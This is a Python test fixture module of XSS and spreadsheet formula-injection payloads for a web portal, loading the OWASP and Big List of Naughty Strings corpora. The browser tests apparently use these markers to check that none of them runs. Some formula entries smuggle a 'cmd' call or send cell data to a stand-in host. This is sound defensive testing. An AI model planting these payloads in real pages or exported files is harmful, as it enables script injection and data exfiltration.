"""Classic XSS payloads. Each one, if it ever ran, would set `window.__xss` or open an
alert dialog; the browser tests assert that neither happens wherever the payload is shown.

The outside corpora (Big List of Naughty Strings, OWASP XSS filter-evasion payloads) are
vendored under tests/fixtures/ with their licences and loaded below."""

import re
from pathlib import Path

PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=window.__xss=1><circle r=1></circle></svg>",
    "<svg><script>window.__xss=1</script></svg>",
    "[cliquer ici](javascript:window.__xss=1)",
    "[cliquer](JaVaScRiPt:alert(1))",
    "[entités](&#106;avascript&#58;alert&#40;1&#41;)",
    '<a href="jav&#x09;ascript:alert(1)">tabulation</a>',
    "[données](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "[référence][r]\n\n[r]: javascript:window.__xss=1",
    '![image](x" onerror="window.__xss=1)',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<div style="background:url(javascript:window.__xss=1)">fond</div>',
    '<p style="width: expression(alert(1))">expression</p>',
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    '<object data="javascript:window.__xss=1"></object>',
    "{{ request.user }} {% load static %}<script>window.__xss=1</script>",
    '{{ "<script>window.__xss=1</script>"|safe }}',
]


# The outside corpora vendored under tests/fixtures/ with their licences ------------------

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
_ESCAPES = re.compile(r"\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\b")


def _decode(line):
    """Decode the `\\xNN`, `\\uNNNN` and `\\b` escapes the corpora files are written with."""
    return _ESCAPES.sub(
        lambda m: "\b" if m.group(0) == "\\b" else chr(int(m.group(0)[2:], 16)), line
    )


def load_corpus(relative_path):
    """One string per non-empty, non-comment line of a vendored corpus file."""
    text = (FIXTURES / relative_path).read_text(encoding="utf-8")
    return [_decode(line) for line in text.split("\n") if line and not line.startswith("#")]


# Big List of Naughty Strings (Max Woolf, MIT): tests/fixtures/naughty_strings/
NAUGHTY_STRINGS = load_corpus("naughty_strings/blns.txt")
# OWASP XSS Filter Evasion Cheat Sheet (OWASP Foundation, CC BY-SA 4.0):
# tests/fixtures/owasp_xss/
OWASP_XSS = load_corpus("owasp_xss/payloads.txt")
# Formula injection (CSV/XLSX "DDE" payloads), written for the portal.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b=1+1",
    '=IMPORTXML(CONCAT("http://exemple.invalid/?v=",A1),"//a")',
]


def every_payload():
    """Every payload of the portal's own list and of the vendored corpora, once each."""
    return list(dict.fromkeys([*PAYLOADS, *OWASP_XSS, *NAUGHTY_STRINGS, *FORMULAS]))
